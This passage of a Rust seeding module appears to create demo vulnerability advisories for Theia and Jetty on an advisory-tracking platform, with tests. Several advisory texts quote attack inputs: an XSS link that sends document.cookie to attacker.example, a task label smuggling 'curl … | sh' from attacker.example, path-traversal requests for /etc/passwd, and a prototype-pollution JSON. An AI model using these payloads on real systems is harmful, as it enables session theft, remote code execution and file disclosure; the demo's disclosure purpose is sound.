        sqlx::query(statement).bind(ids).execute(&mut *conn).await?;
    }
    Ok(())
}

/// Fails when a table other than [`KNOWN_DEPENDENTS`] references one of
/// `ids` through a foreign key.
async fn refuse_unknown_dependents(conn: &mut PgConnection, ids: &[i64]) -> Result<(), SeedError> {
    let references = sqlx::query!(
        r#"SELECT c.conrelid::regclass::text AS "table!", quote_ident(a.attname::text) AS "column!"
           FROM pg_constraint c
           JOIN pg_attribute a ON a.attrelid = c.conrelid AND a.attnum = c.conkey[1]
           WHERE c.contype = 'f' AND c.confrelid = 'advisory'::regclass AND c.conparentid = 0
             AND cardinality(c.conkey) = 1
             AND c.conrelid::regclass::text <> ALL($1)
           ORDER BY 1, 2"#,
        &KNOWN_DEPENDENTS.map(str::to_owned)
    )
    .fetch_all(&mut *conn)
    .await?;
    for r in references {
        // Both names come from the catalogue, quoted by PostgreSQL.
        let n: i64 = sqlx::query_scalar(sqlx::AssertSqlSafe(format!(
            "SELECT count(*) FROM {} WHERE {} = ANY($1)",
            r.table, r.column
        )))
        .bind(ids)
        .fetch_one(&mut *conn)
        .await?;
        if n > 0 {
            return Err(SeedError::Refused(format!(
                "--reset does not know how to delete the {n} row(s) of {} that reference the \
                 demo advisories; add the table to demo::reset",
                r.table
            )));
        }
    }
    Ok(())
}

/// The discussion on a demo advisory, by summary: (IdP `sub`, markdown,
/// internal). The posts notify like any other once a worker runs.
fn comments_on(summary: &str) -> &'static [(&'static str, &'static str, bool)] {
    if summary.starts_with("Path traversal in the file download endpoint") {
        &[
            (
                "dave",
                "Reproduced on 1.52.0 with `GET /files/?uri=..%2f..%2fetc%2fpasswd`. \
                 @bob, does the fix in the download handler also cover the `file://` scheme?",
                false,
            ),
            (
                "bob",
                "Yes: the handler now resolves the path and refuses anything outside the \
                 workspace roots. Embargo until the 1.53.2 release; please keep the PoC here.",
                true,
            ),
        ]
    } else if summary.starts_with("Stored XSS in the Markdown preview") {
        &[(
            "erin",
            "Thanks for the quick triage. Happy to test a release candidate when one is ready.",
            false,
        )]
    } else {
        &[]
    }
}

// ---------------------------------------------------------------------------
// The demo advisories' content. Packages, versions and identifiers are made
// up in the shape of the real ones; addresses use example.org / example.com.

fn theia_markdown_xss() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Stored XSS in the Markdown preview through unsanitised link titles",
            "details": THEIA_MARKDOWN_XSS,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/preview", "purl": "pkg:npm/%40theia/preview"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.0.0"}, {"fixed": "1.49.1"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N"}],
            "cwe_ids": ["CWE-79"],
            "references": [
                {"type": "REPORT", "url": "https://github.com/eclipse-theia/theia/issues/13877"},
            ],
            "credits": [{"name": "Mira Kovač", "type": "FINDER", "contact": ["mailto:mira.kovac@example.com"]}],
        }),
        grants: vec![("erin", "viewer")],
        edits: vec![
            (
                "bob",
                json!({
                    "references": [
                        {"type": "REPORT", "url": "https://github.com/eclipse-theia/theia/issues/13877"},
                        {"type": "FIX", "url": "https://github.com/eclipse-theia/theia/pull/13902"},
                    ],
                    "credits": [
                        {"name": "Mira Kovač", "type": "FINDER", "contact": ["mailto:mira.kovac@example.com"]},
                        {"name": "Bob Okafor", "type": "REMEDIATION_DEVELOPER"},
                    ],
                }),
            ),
            (
                "alice",
                json!({
                    "severity": [
                        {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:L/UI:R/S:C/C:L/I:L/A:N"},
                        {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:L/UI:P/VC:N/VI:N/VA:N/SC:L/SI:L/SA:N"},
                    ],
                    "aliases": ["GHSA-7m2q-9fxw-c4rp"],
                }),
            ),
        ],
        state: DemoState::Published,
    }
}

fn theia_webview_origin() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Webview origin check bypass lets a plugin read files outside the workspace",
            "details": THEIA_WEBVIEW_ORIGIN,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/plugin-ext"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.23.0"}, {"fixed": "1.53.2"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:L/AC:L/PR:N/UI:R/S:C/C:H/I:N/A:N"}],
            "cwe_ids": ["CWE-346", "CWE-22"],
        }),
        grants: vec![],
        edits: vec![(
            "bob",
            json!({
                "affected": [
                    {
                        "package": {"ecosystem": "npm", "name": "@theia/plugin-ext"},
                        "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.23.0"}, {"fixed": "1.53.2"}]}],
                    },
                    {
                        "package": {"ecosystem": "npm", "name": "@theia/plugin-ext-vscode"},
                        "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.23.0"}, {"fixed": "1.53.2"}]}],
                    },
                ],
                "references": [
                    {"type": "FIX", "url": "https://github.com/eclipse-theia/theia/pull/14105"},
                    {"type": "WEB", "url": "https://theia-ide.org/docs/security/"},
                ],
                "credits": [{"name": "Tomás Ferreira", "type": "REPORTER"}],
            }),
        )],
        state: DemoState::SubmittedForReview,
    }
}

fn theia_download_traversal() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Path traversal in the file download endpoint of the Theia backend",
            "details": THEIA_DOWNLOAD_TRAVERSAL,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/filesystem"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"last_affected": "1.55.0"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:L/UI:N/S:U/C:H/I:N/A:N"}],
            "cwe_ids": ["CWE-22"],
        }),
        // dave is a committer invited to help with the fix.
        grants: vec![("dave", "collaborator")],
        edits: vec![(
            "dave",
            json!({
                "affected": [{
                    "package": {"ecosystem": "npm", "name": "@theia/filesystem"},
                    "ranges": [{"type": "SEMVER", "events": [{"introduced": "0"}, {"fixed": "1.56.0"}]}],
                }],
                "references": [
                    {"type": "FIX", "url": "https://github.com/eclipse-theia/theia/pull/14231"},
                    {"type": "EVIDENCE", "url": "https://gist.github.com/example/5c1d3c0ffee"},
                ],
                "credits": [{"name": "Dave Hoffmann", "type": "REMEDIATION_DEVELOPER"}],
            }),
        )],
        state: DemoState::Draft,
    }
}

fn theia_preference_pollution() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Prototype pollution in the preference schema merge of @theia/core",
            "details": THEIA_PREFERENCE_POLLUTION,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/core"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.40.0"}]}],
            }],
            "severity": [{"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:P/VC:L/VI:H/VA:L/SC:N/SI:N/SA:N"}],
            "cwe_ids": ["CWE-1321"],
            "credits": [{"name": "Automated fuzzing (jsfuzz)", "type": "TOOL"}],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Draft,
    }
}

fn theia_terminal_links() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Terminal link provider opens arbitrary URLs without confirmation",
            "details": THEIA_TERMINAL_LINKS,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/terminal"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.8.0"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:N/I:L/A:N"}],
            "cwe_ids": ["CWE-601"],
            "references": [{"type": "DISCUSSION", "url": "https://github.com/eclipse-theia/theia/discussions/14010"}],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Dismissed(
            "Working as designed: terminal links open only on Ctrl/Cmd-click, an explicit user \
             action, and the target is shown on hover. Agreed with the reporter in the discussion.",
        ),
    }
}

fn theia_task_injection() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Command injection through crafted task labels in the task runner",
            "details": THEIA_TASK_INJECTION,
            "affected": [{
                "package": {"ecosystem": "npm", "name": "@theia/task", "purl": "pkg:npm/%40theia/task"},
                "ranges": [{"type": "SEMVER", "events": [{"introduced": "1.30.0"}, {"fixed": "1.47.1"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H"}],
            "cwe_ids": ["CWE-78"],
            "references": [{"type": "FIX", "url": "https://github.com/eclipse-theia/theia/pull/13411"}],
            "credits": [{"name": "Hannah Schulz", "type": "FINDER"}],
        }),
        grants: vec![],
        edits: vec![(
            "bob",
            json!({
                "severity": [
                    {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:H"},
                    {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:A/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"},
                ],
                "aliases": ["GHSA-q4vx-h8j3-2wmc"],
            }),
        )],
        state: DemoState::Published,
    }
}

fn theia_report_mini_browser() -> DemoAdvisory {
    DemoAdvisory {
        project: "ecd.theia",
        author: "bob",
        content: json!({
            "summary": "Mini-browser renders remote pages with access to the backend's RPC channel",
            "details": THEIA_REPORT_MINI_BROWSER,
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Triage {
            reporter: "Jonas Becker",
            ip: "198.51.100.23",
            user_agent: "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
            routing_note: "",
        },
    }
}

fn jetty_hpack_memory() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "HTTP/2 HPACK header decoding allows unbounded memory allocation",
            "details": JETTY_HPACK_MEMORY,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty.http2:jetty-http2-hpack"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.16"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"}],
            "cwe_ids": ["CWE-400"],
        }),
        grants: vec![],
        edits: vec![
            (
                "carol",
                json!({
                    "affected": [
                        {
                            "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty.http2:jetty-http2-hpack", "purl": "pkg:maven/org.eclipse.jetty.http2/jetty-http2-hpack"},
                            "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.16"}]}],
                        },
                        {
                            "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty.http2:http2-hpack", "purl": "pkg:maven/org.eclipse.jetty.http2/http2-hpack"},
                            "ranges": [
                                {"type": "ECOSYSTEM", "events": [{"introduced": "9.3.0"}, {"fixed": "9.4.57.v20241219"}]},
                                {"type": "ECOSYSTEM", "events": [{"introduced": "10.0.0"}, {"fixed": "10.0.25"}]},
                                {"type": "ECOSYSTEM", "events": [{"introduced": "11.0.0"}, {"fixed": "11.0.25"}]},
                            ],
                        },
                    ],
                    "cwe_ids": ["CWE-400", "CWE-789"],
                    "references": [
                        {"type": "ADVISORY", "url": "https://github.com/jetty/jetty.project/security/advisories/GHSA-r7m4-f9h5-gr6v"},
                        {"type": "FIX", "url": "https://github.com/jetty/jetty.project/pull/12487"},
                    ],
                }),
            ),
            (
                "carol",
                json!({
                    "severity": [
                        {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H"},
                        {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N"},
                    ],
                    "aliases": ["GHSA-r7m4-f9h5-gr6v"],
                    "credits": [
                        {"name": "Wei Zhang", "type": "FINDER", "contact": ["https://github.com/example-wz"]},
                        {"name": "Carol Moreau", "type": "COORDINATOR"},
                    ],
                }),
            ),
        ],
        state: DemoState::Published,
    }
}

fn jetty_chunk_smuggling() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "Request smuggling through lenient parsing of chunk extensions",
            "details": JETTY_CHUNK_SMUGGLING,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty:jetty-http", "purl": "pkg:maven/org.eclipse.jetty/jetty-http"},
                "ranges": [
                    {"type": "ECOSYSTEM", "events": [{"introduced": "0"}, {"fixed": "9.4.56.v20240826"}]},
                    {"type": "ECOSYSTEM", "events": [{"introduced": "10.0.0"}, {"fixed": "10.0.24"}]},
                    {"type": "ECOSYSTEM", "events": [{"introduced": "11.0.0"}, {"fixed": "11.0.24"}]},
                    {"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.13"}]},
                ],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:N/S:U/C:L/I:L/A:N"}],
            "cwe_ids": ["CWE-444"],
            "references": [
                {"type": "FIX", "url": "https://github.com/jetty/jetty.project/pull/12170"},
                {"type": "ARTICLE", "url": "https://w4ke.info/2025/06/18/funky-chunks.html"},
            ],
            "credits": [{"name": "Lena Johansson", "type": "REPORTER"}],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Published,
    }
}

fn jetty_form_auth_bypass() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "Authentication bypass in FormAuthenticator with encoded path segments",
            "details": JETTY_FORM_AUTH_BYPASS,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty:jetty-security"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.17"}]}],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"}],
            "cwe_ids": ["CWE-287"],
        }),
        grants: vec![],
        edits: vec![(
            "carol",
            json!({
                "affected": [
                    {
                        "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty:jetty-security"},
                        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.17"}]}],
                    },
                    {
                        "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty.ee10:jetty-ee10-servlet"},
                        "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.17"}]}],
                    },
                ],
                "severity": [
                    {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H"},
                    {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N"},
                ],
                "cwe_ids": ["CWE-287", "CWE-863"],
            }),
        )],
        state: DemoState::Draft,
    }
}

fn jetty_thread_limit() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "ThreadLimitHandler trusts X-Forwarded-For, letting one client starve others",
            "details": JETTY_THREAD_LIMIT,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty:jetty-server"},
                "ranges": [
                    {"type": "ECOSYSTEM", "events": [{"introduced": "9.4.0"}, {"last_affected": "9.4.58.v20250814"}]},
                    {"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.22"}]},
                ],
            }],
            "severity": [{"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:L"}],
            "cwe_ids": ["CWE-770"],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Draft,
    }
}

fn jetty_gzip_inflation() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "GzipHandler inflates request bodies without a size limit",
            "details": JETTY_GZIP_INFLATION,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty:jetty-server", "purl": "pkg:maven/org.eclipse.jetty/jetty-server"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.19"}]}],
            }],
            "severity": [{"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:L/AT:P/PR:N/UI:N/VC:N/VI:N/VA:H/SC:N/SI:N/SA:N"}],
            "cwe_ids": ["CWE-409"],
            "credits": [{"name": "Priya Natarajan", "type": "FINDER"}],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Draft,
    }
}

fn jetty_websocket_origin() -> DemoAdvisory {
    DemoAdvisory {
        project: "rt.jetty",
        author: "carol",
        content: json!({
            "summary": "WebSocket upgrade in the ee10 container does not check the Origin header by default",
            "details": JETTY_WEBSOCKET_ORIGIN,
            "affected": [{
                "package": {"ecosystem": "Maven", "name": "org.eclipse.jetty.ee10.websocket:jetty-ee10-websocket-jakarta-server"},
                "ranges": [{"type": "ECOSYSTEM", "events": [{"introduced": "12.0.0"}, {"fixed": "12.0.15"}]}],
            }],
            "severity": [
                {"type": "CVSS_V3", "score": "CVSS:3.1/AV:N/AC:H/PR:N/UI:R/S:U/C:L/I:N/A:N"},
                {"type": "CVSS_V4", "score": "CVSS:4.0/AV:N/AC:H/AT:N/PR:N/UI:A/VC:L/VI:N/VA:N/SC:N/SI:N/SA:N"},
            ],
            "cwe_ids": ["CWE-1385"],
            "references": [{"type": "WEB", "url": "https://jetty.org/docs/jetty/12/programming-guide/server/websocket.html"}],
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Published,
    }
}

fn unsorted_report() -> DemoAdvisory {
    DemoAdvisory {
        project: UNSORTED,
        author: "alice",
        content: json!({
            "summary": "License report page reflects the uploaded file name without escaping",
            "details": UNSORTED_REPORT,
        }),
        grants: vec![],
        edits: vec![],
        state: DemoState::Triage {
            // An anonymous report: no name given.
            reporter: "",
            ip: "203.0.113.57",
            user_agent: "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 \
                         (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
            routing_note: "The reporter did not know the project. The license report sounds like \
                           Eclipse Dash (technology.dash), whose team has nobody on AdvisoryHub yet.",
        },
    }
}

const THEIA_MARKDOWN_XSS: &str = r#"### Impact

The Markdown preview (`@theia/preview`) renders link titles into a `title`
attribute without escaping quotes. A Markdown file such as

```markdown
[docs](https://example.org "x\" onmouseover=\"fetch('//attacker.example/'+document.cookie)")
```

runs script in the preview's webview when a user hovers the link. Anyone
who can put a file into a workspace (a pull request, a cloned repository)
can run script with the privileges of the preview.

### Patches

Fixed in **1.49.1**: titles are escaped and the preview's content security
policy no longer allows inline event handlers.

### Workarounds

Disable the preview (`preview.openByDefault: false`) and do not open
untrusted Markdown files."#;

const THEIA_WEBVIEW_ORIGIN: &str = r"### Impact

Webviews created by VS Code extensions are served from a per-webview origin.
The check that maps a resource request back to its webview compared only the
prefix of the host name, so a webview of one plugin could load
`vscode-resource` URLs of another plugin's webview, including local files
that plugin had access to.

A malicious extension installed by the user can read files outside the
workspace, such as `~/.ssh/id_ed25519`.

### Patches

Fixed in 1.53.2: the origin is compared exactly and local resource roots are
enforced per webview.";

const THEIA_DOWNLOAD_TRAVERSAL: &str = r"### Impact

The backend's download endpoint (`/files/download/`) resolves the `uri` query
parameter against the workspace root but does not normalise `..` segments
after percent-decoding. An authenticated user of a multi-user Theia
deployment can download any file the backend process can read:

```
GET /files/download/?uri=file:///workspace/%2e%2e/%2e%2e/etc/passwd
```

Single-user desktop builds (Electron) are not affected in practice, since the
user can read those files anyway.

### Patches

Under way in 1.56.0; see the linked pull request.";

const THEIA_PREFERENCE_POLLUTION: &str = r#"### Impact

`PreferenceSchemaProvider` merges contributed preference schemas with a
recursive merge that copies `__proto__` keys. A workspace whose
`.theia/settings.json` contains

```json
{ "__proto__": { "isTrusted": true } }
```

pollutes `Object.prototype` in the frontend, which can flip security
decisions made with plain-object lookups, such as workspace trust.

### Status

Found by fuzzing; no fix yet. Every release since 1.40.0 is affected."#;

const THEIA_TERMINAL_LINKS: &str = r"The reporter considers that the terminal's link provider should ask before
opening `http(s)` links printed by a program, since a program can print a
link whose text differs from its target (OSC 8 hyperlinks).

- The link opens only on Ctrl/Cmd-click.
- The target URL is shown in the hover before the click.
- VS Code behaves the same way.";

const THEIA_TASK_INJECTION: &str = r#"### Impact

Tasks contributed by `tasks.json` are run through a shell. The task label was
interpolated into the shell command used to announce the task, so a
repository with a crafted `.theia/tasks.json` runs arbitrary commands when
the user starts **any** task of that workspace:

```json
{ "label": "build $(curl -s https://attacker.example/x | sh)", "type": "shell", "command": "make" }
```

### Patches

Fixed in **1.47.1**: labels are passed as an argument, never through the
shell.

### Workarounds

Review `tasks.json` of repositories you do not trust before running tasks."#;

const THEIA_REPORT_MINI_BROWSER: &str = r"Hello,

when I open a web page in the mini-browser (View > Open Browser), the page
can `postMessage` to the parent frame, and the parent forwards some messages
to the backend over the RPC websocket. I managed to call the
`FileSystemProvider` with a small page hosted on my server. I can share the
proof of concept privately.

Tested on Theia Blueprint 1.55 on Linux.

Jonas";

const JETTY_HPACK_MEMORY: &str = r"### Impact

The HPACK decoder checks the declared length of a Huffman-encoded header
value against `maxHeaderSize` only after allocating a buffer of that length.
A client can send `HEADERS` frames that declare multi-megabyte values in a
few bytes, and every stream allocates before being rejected. A handful of
connections exhaust the heap of a server with the default settings.

| Jetty | Fixed in |
|---|---|
| 12.0.x | 12.0.16 |
| 11.0.x | 11.0.25 |
| 10.0.x | 10.0.25 |
| 9.4.x | 9.4.57 |

### Workarounds

Disable HTTP/2 (`--module=-http2`), or put a proxy that limits header sizes
in front of Jetty.";

const JETTY_CHUNK_SMUGGLING: &str = r"### Impact

Jetty's HTTP/1.1 parser accepted a bare `LF` as the end of a chunk extension
and ignored everything after `;` up to it. A front-end proxy that parses
chunk extensions strictly sees a different request boundary than Jetty,
which allows request smuggling when Jetty sits behind such a proxy.

### Patches

Chunk extensions are now parsed per RFC 9112 §7.1.1; a bare `LF` is
rejected with `400 Bad Request` unless the `LF_CHUNK_TERMINATION` compliance
violation is allowed.";

const JETTY_FORM_AUTH_BYPASS: &str = r"### Impact

`FormAuthenticator` decides whether a request targets the login or error
page by comparing the raw request path. A request for
`/app/%2e/secure/admin` is treated as a login-page request and skips the
authentication check, while the servlet mapping resolves it to
`/app/secure/admin`.

Applications using `FORM` authentication with Jetty 12 are affected;
`BASIC` and `DIGEST` are not.

### Patches

Pending: the fix compares the canonical path. Release 12.0.17 is planned.";

const JETTY_THREAD_LIMIT: &str = r"### Impact

`ThreadLimitHandler` identifies clients by the `X-Forwarded-For` header when
`forwardedHeader` is set, and takes the **first** address of the header. A
client can rotate that value to get unlimited threads, or set it to another
client's address to get that client throttled.

### Patches

12.0.22 takes the address appended by the nearest trusted proxy. The 9.4
branch is end of community support and will not be fixed.";

const JETTY_GZIP_INFLATION: &str = r"### Impact

With `inflateBufferSize` greater than 0, `GzipHandler` inflates `Content-Encoding: gzip`
request bodies. The inflated size is not limited, so a 10 MB request
inflates to 10 GB and is buffered when the application reads the body as
form parameters.

### Workarounds

Set `inflateBufferSize` to 0 (the default) unless request inflation is
needed.";

const JETTY_WEBSOCKET_ORIGIN: &str = r"### Impact

The Jakarta WebSocket container of ee10 accepted upgrade requests from any
`Origin` unless a `ServerEndpointConfig.Configurator` checked it. Browsers
send cookies with cross-site WebSocket upgrades, so an endpoint relying on
the session cookie can be driven from another site (cross-site WebSocket
hijacking).

### Patches

12.0.15 adds `allowedOrigins` to the WebSocket configuration; the default
stays permissive for compatibility, and the documentation now says so.";

const UNSORTED_REPORT: &str = r"I uploaded a `package-lock.json` named

    <img src=x onerror=alert(document.domain)>.json

to the license check service and the report page showed an alert. I am not
sure which Eclipse project runs this service, sorry.";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::advisories::content;

    #[test]
    fn the_idp_users_file_parses() {
        let users = parse_users(include_str!("../bin/idp/users.json")).unwrap();
        let ids: Vec<&str> = users.iter().map(|u| u.id.as_str()).collect();
        assert_eq!(ids, ["alice", "bob", "carol", "dave", "erin", "mallory"]);
        let banned: Vec<&str> = users
            .iter()
            .filter(|u| u.banned)
            .map(|u| u.id.as_str())
            .collect();
        assert_eq!(banned, ["mallory"]);
        let teams: Vec<String> = users
            .iter()
            .flat_map(|u| users::mirror_group_names(Some(&json!(u.groups))))
            .collect();
        for project in &PROJECTS[..2] {
            assert!(teams.iter().any(|t| t == project.team), "{project:?}");
        }
    }

    #[test]
    fn a_malformed_users_file_is_refused() {
        assert!(parse_users(r#"{"alice": {}}"#).is_err());
        assert!(parse_users(r#"[{"id": "", "email": "a@example.org"}]"#).is_err());
        assert!(parse_users(r#"[{"id": "a", "email": "nobody"}]"#).is_err());
        assert!(parse_users(r#"[{"id": "a"}]"#).is_err());
        assert_eq!(parse_users("[]").unwrap().len(), 0);
    }

    #[test]
    fn every_version_of_every_demo_advisory_is_valid_content() {
        for advisory in advisories() {
            let mut content = advisory.content.clone();
            let mut versions = vec![content.clone()];
            for (_, changes) in &advisory.edits {
                merge(&mut content, changes);
                versions.push(content.clone());
            }
            for (i, version) in versions.iter().enumerate() {
                let payload = Payload::from_json(version).unwrap();
                let normalized = content::validate(&payload)
                    .unwrap_or_else(|e| panic!("{} v{}: {e}", advisory.title(), i + 1));
                assert_eq!(
                    normalized.payload(),
                    &payload,
                    "{}: already normalised",
                    advisory.title()
                );
            }
            assert_eq!(advisory.final_content(), content);
        }
    }

    #[test]
    fn the_demo_advisories_cover_every_state_and_have_distinct_titles() {
        let all = advisories();
        let mut titles = titles();
        titles.sort();
        titles.dedup();
        assert_eq!(titles.len(), all.len());
        for state in ["draft", "published", "dismissed", "triage"] {
            assert!(all.iter().any(|a| a.state.state() == state), "{state}");
        }
        assert!(
            all.iter()
                .any(|a| a.project == UNSORTED && matches!(a.state, DemoState::Triage { .. }))
        );
        assert!(all.iter().any(|a| a.state == DemoState::SubmittedForReview));
        assert!(all.iter().any(|a| a.edits.len() >= 2));
    }
}
